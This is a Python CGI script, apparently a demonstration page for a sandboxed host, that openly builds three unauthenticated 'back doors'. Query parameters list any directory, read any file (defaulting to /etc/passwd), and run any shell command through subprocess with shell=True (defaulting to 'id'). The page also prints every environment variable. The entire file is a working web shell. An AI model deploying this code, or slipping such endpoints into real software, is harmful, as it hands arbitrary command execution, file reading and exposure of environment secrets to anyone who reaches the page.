# A CGI script with three deliberate back doors: it lists, opens and runs whatever it is asked to.

import html
import os
import subprocess
import sys
from urllib.parse import parse_qs

PAGE = """\
Content-Type: text/html; charset=utf-8

<!doctype html>
<html lang="en">
<meta charset="utf-8">
<meta name="viewport" content="width=device-width">
<title>Environment</title>
<link rel="stylesheet" href="/style.css">
<p><a href="/">All programs</a></p>
<h1>Environment</h1>
<h2>Three back doors</h2>
<form><input name="listdir" value="{listdir}"> <button>List a directory</button></form>
<form><input name="open" value="{open}"> <button>Open a file</button></form>
<form><input name="run" value="{run}"> <button>Run a command</button></form>
{found}
<h2>Environment variables</h2>
<table>
{variables}
</table>
<h2>This interpreter</h2>
<table>
{interpreter}
</table>
"""


def listdir(path):
    return "\n".join(sorted(os.listdir(path)))


def open_file(path):
    with open(path, encoding="utf-8", errors="replace") as file:
        return file.read(4096)


def run(command):
    done = subprocess.run(command, shell=True, capture_output=True, text=True, check=False)
    return done.stdout + done.stderr


DOORS = {"listdir": listdir, "open": open_file, "run": run}


def through(door, wish):
    """What comes of a wish: the text, or the sandbox's refusal."""
    try:
        return f"<pre>{html.escape(DOORS[door](wish))}</pre>"
    except (OSError, AttributeError) as error:
        return f'<p class="refused">{html.escape(f"{type(error).__name__}: {error}")}</p>'


def rows(pairs):
    return "\n".join(f"<tr><th>{html.escape(name)}<td>{html.escape(value)}"
                     for name, value in pairs)


def main():
    query = parse_qs(os.environ.get("QUERY_STRING", ""))
    wishes = {door: query[door][0] for door in DOORS if door in query}
    shown = {"listdir": "/", "open": "/etc/passwd", "run": "id", **wishes}
    print(PAGE.format(
        **{door: html.escape(wish) for door, wish in shown.items()},
        found="".join(through(door, wish) for door, wish in wishes.items()),
        variables=rows(sorted(os.environ.items())),
        interpreter=rows([("Python", sys.version), ("Platform", sys.platform),
                          ("Arguments", " ".join(sys.orig_argv)), ("Path", " ".join(sys.path))])))


main()
